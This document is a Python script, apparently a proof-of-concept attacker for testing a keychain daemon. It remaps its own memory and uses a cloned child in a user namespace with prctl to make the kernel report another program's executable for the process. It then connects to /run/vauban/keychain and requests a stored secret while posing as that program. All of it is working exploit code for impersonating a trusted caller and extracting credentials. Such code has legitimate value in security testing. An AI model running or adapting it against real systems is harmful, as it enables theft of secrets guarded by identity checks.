# ACCOUNT PROGRAM, run by Python's library in a program that is not an interpreter: makes the kernel report another executable for this process,
# while it runs only code of root's libraries, and requests an item from keychaind. Prints as attacker.c does.
import array, ctypes, os, re, socket, struct, sys

account, program = sys.argv[1:3]
libc = ctypes.CDLL(None, use_errno=True)
for name in ('mmap', 'mremap', 'memcpy'):
    getattr(libc, name).restype = ctypes.c_void_p
mmap, mremap, memcpy, mprotect, clone, prctl, leave, setcontext, getcontext = (
    getattr(libc, name) for name in ('mmap', 'mremap', 'memcpy', 'mprotect', 'clone', 'prctl', '_exit', 'setcontext', 'getcontext'))
address = lambda number: ctypes.c_void_p(number)
READ, WRITE, EXECUTE, PRIVATE, ANONYMOUS, FIXED = 1, 2, 4, 2, 0x20, 2


def memory(size):
    return mmap(None, ctypes.c_size_t(size), READ | WRITE, PRIVATE | ANONYMOUS, -1, ctypes.c_long(0))


# Every mapping of this program's file is replaced. Its code is data from now on: the library never returns to it.
own = os.readlink('/proc/self/exe')
for line in open('/proc/self/maps').read().splitlines():
    piece = re.match(r'(\w+)-(\w+) (....) \S+ \S+ \S+ +' + re.escape(own) + '$', line)
    if not piece:
        continue
    start, size = int(piece[1], 16), int(piece[2], 16) - int(piece[1], 16)
    copy = memory(size)
    memcpy(address(copy), address(start), ctypes.c_size_t(size))
    mprotect(address(copy), ctypes.c_size_t(size), READ | (WRITE if 'w' in piece[3] else 0))
    if mremap(address(copy), ctypes.c_size_t(size), ctypes.c_size_t(size), 1 | FIXED, address(start)) != start:
        sys.exit('mremap')

# The other program's code is mapped in its place, and is never executed.
file = os.open(program, os.O_RDONLY)
mmap(None, ctypes.c_size_t(4096), READ | EXECUTE, PRIVATE, file, ctypes.c_long(0))
stat = open('/proc/self/stat').read().rsplit(')', 1)[1].split()
field = lambda number: int(stat[number - 3])
brk = libc.sbrk
brk.restype = ctypes.c_void_p
# struct prctl_mm_map
map = struct.pack('<11QQII', field(26), field(27), field(45), field(46), field(47), brk(0), field(28), field(48), field(49), field(50),
                  field(51), 0, 0, file & 0xFFFFFFFF)
map = ctypes.create_string_buffer(map, len(map))

# A child in a user namespace of its own shares this memory. It begins in setcontext, which calls prctl and then _exit.
context, stack = memory(4096), memory(65536)
getcontext(address(context))
place = lambda function: ctypes.cast(function, ctypes.c_void_p).value
top = stack + 65536 - 64 - 8
struct.pack_into('<Q', (ctypes.c_char * 8).from_address(top), 0, place(leave))
# The registers of ucontext_t on x86-64 from r8 on: r8 r9 r10 r11 r12 r13 r14 r15 rdi rsi rbp rbx rdx rax rcx rsp rip
registers = (ctypes.c_uint64 * 17).from_address(context + 40)
registers[0], registers[8], registers[9], registers[12], registers[14] = 0, 35, 14, ctypes.addressof(map), len(map)
registers[15], registers[16] = top, place(prctl)
child = clone(address(place(setcontext)), address(stack + 32768), 0x100 | 0x10000000 | 17, address(context))
if child < 0 or os.waitpid(child, 0)[0] != child or os.readlink('/proc/self/exe') != program:
    print('not named', flush=True)
    os._exit(1)

connection = socket.socket(socket.AF_UNIX)
connection.settimeout(240)
connection.setsockopt(socket.SOL_SOCKET, socket.SO_PASSCRED, 1)
connection.connect('/run/vauban/keychain')


def receive():
    front = connection.recv(8, socket.MSG_WAITALL)
    if len(front) < 8:
        return None, None
    sizes = struct.unpack('>II', front)
    return [connection.recv(size, socket.MSG_WAITALL) if size else b'' for size in sizes]


def send(header, *descriptors):
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', descriptors))] if descriptors else []
    connection.sendmsg([struct.pack('>II', len(header), 0) + header], rights)


def der(tag, *parts):
    content = b''.join(parts)
    assert len(content) < 128
    return bytes([tag, len(content)]) + content


number = lambda value: der(2, bytes([value]))
pair = lambda name, value: der(0x30, der(0x0C, name.encode()), der(0xA0, der(0x0C, value.encode())))
hello, _ = receive()
send(der(0x30, number(1), der(4, hello[-16:]), number(0)), os.pidfd_open(os.getpid()))
query = der(0x30, number(1), der(0x30, pair('acct', account), pair('svce', 'callers')), number(1), number(1), number(0))
send(der(0x30, number(1), der(0xA1, query)))
while True:
    reply, secret = receive()
    if reply is None:
        print('closed')
        break
    alternative = reply[2 + (reply[1] & 0x7F if reply[1] & 0x80 else 0) + 3]
    if alternative == 0xA3:
        continue
    reason = re.search(b'\x02\x01(.)', reply[6:], re.DOTALL)
    print('value ' + secret.decode() if alternative == 0xA2 else 'refused %d' % reason[1][0] if reason else 'nothing')
    break
sys.stdout.flush()
os._exit(0)
